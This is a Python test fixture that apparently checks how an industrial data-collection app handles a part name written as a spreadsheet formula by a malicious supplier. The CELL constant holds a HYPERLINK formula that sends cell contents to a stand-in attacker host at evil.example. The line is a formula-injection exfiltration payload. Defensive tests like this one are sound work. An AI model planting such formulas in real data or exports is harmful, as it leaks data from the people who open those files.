"""A workpiece whose name is a formula, told by somebody who means harm."""

from __future__ import annotations

from kumiai.acts import collect
from kumiai.model.machine import MachineId
from kumiai.model.period import micros
from kumiai.model.person import Role
from kumiai.model.readings import Readings
from kumiai.records import register
from tests.acts import dealing
from tests.apps import places
from tests.apps.world import SPINDLE, World, secret_of

CELL = '=HYPERLINK("http://evil.example/"&A1)'


def told(world: World) -> tuple[str, str, str]:
    """The path of an address without its ending, and whose token of which secret reads there, after
    the formula was collected.
    """
    places.told(world)
    plant = dealing.standing(world, "kasugai-data")
    machine = register.machine(world.node.store.database, plant, MachineId("fleet"))
    rows = Readings(
        source=machine.source,
        instance="f" * 64,
        stride=64,
        observations=1,
        sequence=(0,),
        at=(micros(places.BEGIN),),
        item=places.ITEMS[:1],
        value=(9.0,),
        text=(None,),
        part=CELL,
        rejects=(),
        gaps=(),
    )
    collect.collect(world.node.store, plant, machine, [rows])
    path = f"/refresh/{places.AGREEMENT}/{places.PURPOSE}/{places.SLIPS}"
    return path, f"{SPINDLE}.data-manager", secret_of(SPINDLE, Role.DATA_MANAGER)
